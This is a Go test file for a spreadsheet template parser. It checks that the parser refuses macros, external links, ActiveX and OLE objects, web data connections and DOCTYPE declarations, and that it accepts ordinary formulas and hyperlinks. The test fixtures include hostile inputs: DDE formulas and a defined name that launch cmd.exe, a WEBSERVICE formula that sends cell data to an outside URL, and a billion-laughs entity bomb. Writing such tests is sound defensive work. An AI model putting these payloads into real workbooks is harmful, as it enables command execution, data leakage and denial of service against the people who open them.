package xlsx

import (
	"runtime"
	"strings"
	"testing"

	"jixiao/pipeline/definition"
	"jixiao/pipeline/opc/opctest"
	"jixiao/templates"
)

// Fixtures are the sample Excel template with parts edited or added the
// way Excel writes them.

const xlRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

func addRel(rel string) func(string) string {
	return func(s string) string {
		if s == "" {
			s = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
		}
		return strings.Replace(s, "</Relationships>", rel+"</Relationships>", 1)
	}
}

func addType(entry string) func(string) string {
	return func(s string) string { return strings.Replace(s, "</Types>", entry+"</Types>", 1) }
}

// withFormula adds a row to the 附件 sheet with a formula in B100.
func withFormula(formula string) map[string]func(string) string {
	return map[string]func(string) string{"xl/worksheets/sheet1.xml": func(s string) string {
		return strings.Replace(s, "</sheetData>", `<row r="100"><c r="B100"><f>`+formula+`</f><v>0</v></c></row></sheetData>`, 1)
	}}
}

func parseExcel(t *testing.T, edits map[string]func(string) string) error {
	t.Helper()
	_, err := Parse("附件模板.xlsx", opctest.Edit(t, templates.Attachment, edits), definition.Default())
	return err
}

// TestExcelActiveContentIsRefused: macros, outside links, DDE and OLE
// links, data connections, query tables, ActiveX, OLE objects, formulas
// that reach outside and DOCTYPEs are refused, each named with where it is.
func TestExcelActiveContentIsRefused(t *testing.T) {
	cases := []struct {
		name  string
		edits map[string]func(string) string
		want  []string
	}{
		{"macros (.xlsm)", map[string]func(string) string{
			"xl/vbaProject.bin":          opctest.Set("\xd0\xcf\x11\xe0 VBA"),
			"xl/_rels/workbook.xml.rels": addRel(`<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`),
			"[Content_Types].xml": func(s string) string {
				return strings.Replace(s, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", 1)
			},
		}, []string{"xl/vbaProject.bin：是宏", ".xlsm"}},
		{"DDE link", map[string]func(string) string{
			"xl/externalLinks/externalLink1.xml": opctest.Set(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`),
			"xl/_rels/workbook.xml.rels":         addRel(`<Relationship Id="rIdX" Type="` + xlRel + `externalLink" Target="externalLinks/externalLink1.xml"/>`),
			"[Content_Types].xml":                addType(`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`),
		}, []string{"xl/externalLinks/externalLink1.xml：是外部链接"}},
		{"link to another workbook", map[string]func(string) string{
			"xl/externalLinks/externalLink1.xml":            opctest.Set(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>`),
			"xl/externalLinks/_rels/externalLink1.xml.rels": addRel(`<Relationship Id="rId1" Type="` + xlRel + `externalLinkPath" Target="file:///C:\决算\2023.xlsx" TargetMode="External"/>`),
		}, []string{"外部链接", "xl/externalLinks/externalLink1.xml：链接到外部的外部工作簿“file:///C:\\决算\\2023.xlsx”"}},
		{"data connection and query table", map[string]func(string) string{
			"xl/connections.xml":             opctest.Set(`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://example.com/data"/></connection></connections>`),
			"xl/queryTables/queryTable1.xml": opctest.Set(`<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="q" connectionId="1"/>`),
			"xl/_rels/workbook.xml.rels":     addRel(`<Relationship Id="rIdC" Type="` + xlRel + `connections" Target="connections.xml"/>`),
		}, []string{"xl/connections.xml：是数据连接", "xl/queryTables/queryTable1.xml：是查询表"}},
		{"ActiveX control", map[string]func(string) string{
			"xl/worksheets/sheet1.xml": func(s string) string {
				return strings.Replace(s, "</worksheet>", `<controls><control shapeId="1025" r:id="rIdAx" name="CommandButton1"/></controls></worksheet>`, 1)
			},
			"xl/activeX/activeX1.xml":             opctest.Set(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>`),
			"xl/worksheets/_rels/sheet1.xml.rels": addRel(`<Relationship Id="rIdAx" Type="` + xlRel + `control" Target="../activeX/activeX1.xml"/>`),
		}, []string{"xl/activeX/activeX1.xml：是 ActiveX 控件", "工作表“附件”：有ActiveX 或窗体控件"}},
		{"OLE object", map[string]func(string) string{
			"xl/worksheets/sheet1.xml": func(s string) string {
				return strings.Replace(s, "</worksheet>", `<oleObjects><oleObject progId="Package" shapeId="1026" r:id="rIdO"/></oleObjects></worksheet>`, 1)
			},
			"xl/embeddings/oleObject1.bin":        opctest.Set("\xd0\xcf\x11\xe0"),
			"xl/worksheets/_rels/sheet1.xml.rels": addRel(`<Relationship Id="rIdO" Type="` + xlRel + `oleObject" Target="../embeddings/oleObject1.bin"/>`),
		}, []string{"xl/embeddings/oleObject1.bin：是嵌入的 OLE 对象", "工作表“附件”：有OLE 对象"}},
		{"Excel 4.0 macro sheet", map[string]func(string) string{
			"xl/macrosheets/sheet1.xml": opctest.Set(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`),
		}, []string{"Excel 4.0 宏表"}},
		{"image linked from outside", map[string]func(string) string{
			"xl/drawings/_rels/drawing1.xml.rels": addRel(`<Relationship Id="rId1" Type="` + xlRel + `image" Target="http://tracker.example.com/x.png" TargetMode="External"/>`),
		}, []string{"xl/drawings/drawing1.xml：链接到外部的图片“http://tracker.example.com/x.png”"}},
		{"DDE formula", withFormula(`cmd|' /C calc'!A0`), []string{`工作表“附件” B100：公式“=cmd|' /C calc'!A0”是 DDE 链接`}},
		{"WEBSERVICE", withFormula(`WEBSERVICE("http://example.com/?"&amp;A1)`), []string{"B100", "WEBSERVICE"}},
		{"formula into another workbook", withFormula(`SUM('C:\决算\[2023.xlsx]Sheet1'!A1:A9)`), []string{"B100", "引用了其他文件或网址"}},
		{"defined name with DDE", map[string]func(string) string{"xl/workbook.xml": func(s string) string {
			return strings.Replace(s, "</definedNames>", `<definedName name="auto">MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''</definedName></definedNames>`, 1)
		}}, []string{"xl/workbook.xml 名称“auto”", "DDE"}},
	}
	for _, part := range []string{"xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"} {
		cases = append(cases, struct {
			name  string
			edits map[string]func(string) string
			want  []string
		}{"DOCTYPE in " + part, map[string]func(string) string{part: func(s string) string {
			_, root, _ := strings.Cut(s, "?>")
			return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>` + root
		}}, []string{part + "：含有 XML 声明“<!DOCTYPE”"}})
	}
	for _, c := range cases {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		err := parseExcel(t, c.edits)
		runtime.ReadMemStats(&after)
		for _, w := range c.want {
			if err == nil || !strings.Contains(err.Error(), w) {
				t.Errorf("%s: want %q in %v", c.name, w, err)
			}
		}
		if grown := after.TotalAlloc - before.TotalAlloc; grown > 64<<20 {
			t.Errorf("%s: refusing allocated %d MB", c.name, grown>>20)
		}
	}
}

// TestHarmlessExcelContentStays: ordinary formulas, a | inside a string,
// table references and a hyperlink to a web page are allowed.
func TestHarmlessExcelContentStays(t *testing.T) {
	for _, f := range []string{`SUM(D3:D4)`, `IF(A1="a|b","是","否")`, `SUM(表1[金额])`, `'统计'!B2*2`, `HYPERLINK("http://www.example.gov.cn/","网站")`} {
		if err := parseExcel(t, withFormula(f)); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	link := map[string]func(string) string{
		"xl/worksheets/sheet1.xml": func(s string) string {
			return strings.Replace(s, "<pageSetup", `<hyperlinks><hyperlink ref="A1" r:id="rIdL"/></hyperlinks><pageSetup`, 1)
		},
		"xl/worksheets/_rels/sheet1.xml.rels": addRel(`<Relationship Id="rIdL" Type="` + xlRel + `hyperlink" Target="http://www.example.gov.cn/" TargetMode="External"/>`),
	}
	if err := parseExcel(t, link); err != nil {
		t.Error(err)
	}
}

// TestAWholeSectionInAnExcelCellIsRefused: {{.}} or a section in a cell
// would print Go's dump of the data into the workbook.
func TestAWholeSectionInAnExcelCellIsRefused(t *testing.T) {
	for text, want := range map[string]string{
		"{{.}}":         "单元格 C40：{{.}} 是一组字段",
		"说明：{{.附件}}":    "单元格 C40：{{.附件}} 是一组字段",
		"{{.附件.行}}":     "单元格 C40：{{.附件.行}} 是一个列表",
		"{{.事前评价.有数据}}": "单元格 C40：{{.事前评价.有数据}} 是“是/否”",
	} {
		_, err := Parse("a.xlsx", withCell(t, "C40", text), definition.Default())
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", text, err)
		}
	}
}
